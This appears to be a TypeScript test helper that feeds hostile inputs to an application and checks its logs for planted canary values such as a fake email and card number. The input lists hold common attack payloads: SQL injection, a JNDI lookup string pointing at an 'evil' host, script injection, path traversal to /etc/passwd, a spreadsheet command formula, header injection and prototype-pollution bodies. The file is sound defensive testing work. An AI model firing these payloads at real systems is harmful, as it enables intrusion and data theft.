import type { Chance } from './random.ts'

/** Values that name a person or open a door: none may ever be read in the log. */
export const canaries = {
  email: 'canary.visitor@secret-mailbox.example',
  phone: '9182736450',
  code: '739105',
  card: '4539578763621486',
  name: 'Canaria Verysecret',
}

/** Finds a canary in a line of the log, also in the ways in which it may have been written. */
export function canaryIn(line: string) {
  const found = spellings.find((spelling) => spelling.test(line))
  return found?.source
}

const spellings = [
  /canary\.visitor/i,
  /secret-mailbox/i,
  /9182736450|91827[ -]36450/,
  /4539578763621486|4539 5787 6362 1486/,
  /Verysecret/i,
  // Six digits may stand in an identifier by chance; alone they are the code.
  /(?<![\da-z.-])739105(?![\da-z.-])/i,
]

const deep = (depth: number) => {
  let value: unknown = canaries.email
  for (let level = 0; level < depth; level++) value = level % 2 ? [value] : { a: value }
  return value
}

const texts = [
  '',
  ' ',
  '\u0000',
  `a\u0000${canaries.email}`,
  '\ud800',
  'ok\udfff',
  '\u202egnp.exe',
  '\u200f\u200e\u2066',
  '９８７６５４３２１０',
  '７３９１０５',
  '٩٨٧٦٥٤٣٢١٠',
  'ﬀ',
  'İ',
  '\ufeff',
  '\ufffe\uffff',
  'é'.normalize('NFD').repeat(300),
  '👩‍👩‍👧‍👦'.repeat(20),
  "'; drop table applications; --",
  "' or 1=1 --",
  '1; select pg_sleep(5)',
  `\${jndi:ldap://evil/a}`,
  '{{7*7}}',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  'javascript:alert(1)',
  '//evil.example',
  'https://site@evil.example',
  'http://localhost:1/success',
  '../../../../etc/passwd',
  '..%2f..%2fetc%2fpasswd',
  '%00',
  '%',
  '%e0%80%80',
  '%ff',
  "=cmd|'/c calc'!A1",
  '+1+1',
  '@SUM(A1)',
  'To: everyone\r\nBcc: victim@example.org',
  'a\r\nSet-Cookie: session=1',
  '__proto__',
  'constructor',
  'toString',
  'null',
  'undefined',
  'NaN',
  '-0',
  '1e400',
  '0x10',
  '2026-02-30',
  'a'.repeat(10_000),
  '9'.repeat(5_000),
  `${'a'.repeat(64)}@${'b'.repeat(180)}.com`,
  `${'.a'.repeat(2000)}@x.yz`,
  canaries.email,
  canaries.phone,
  canaries.code,
  canaries.card,
  canaries.name,
]

const others: unknown[] = [
  null,
  true,
  false,
  0,
  -1,
  1.5,
  0.1 + 0.2,
  1e308,
  Number.MAX_SAFE_INTEGER + 2,
  [],
  {},
  [[]],
  [canaries.email, canaries.phone],
  { toString: canaries.email },
  { length: 1e9 },
  { $ne: null },
  JSON.parse('{"then":"x"}'),
  { constructor: { prototype: { isAdmin: true } } },
  deep(50),
]

export const hostileText = (chance: Chance) => chance.pick(texts)

/** Anything but what the field wants. */
export const hostileValue = (chance: Chance): unknown =>
  chance.happens(0.7) ? hostileText(chance) : chance.pick(others)

/** Bodies that are no JSON object of ours at all. */
export function hostileBody(chance: Chance): string {
  return chance.pick([
    '',
    '{',
    '[]',
    'null',
    '"text"',
    '0',
    'true',
    '{"a":1,}',
    "{'a':1}",
    '{"a":NaN}',
    '{"__proto__":{"isAdmin":true}}',
    '{"constructor":{"prototype":{"isAdmin":true}}}',
    '\ufeff{}',
    '\u0000',
    '{"email":"\\u0000"}',
    '{"email":"\\ud800"}',
    `${'{"a":'.repeat(5_000)}1${'}'.repeat(5_000)}`,
    '['.repeat(30_000),
    `{"email":"${'x'.repeat(70 * 1024)}"}`,
    `{"email":"${canaries.email}","phone_number":"${canaries.phone}"`,
    `email=${canaries.email}&phone=${canaries.phone}`,
    JSON.stringify(Object.fromEntries(Array.from({ length: 2_000 }, (_, at) => [`k${at}`, at]))),
    JSON.stringify(deep(500)),
    '{"amount":1e999}',
    '{"email":1,"email":2}',
    '<xml/>',
  ])
}
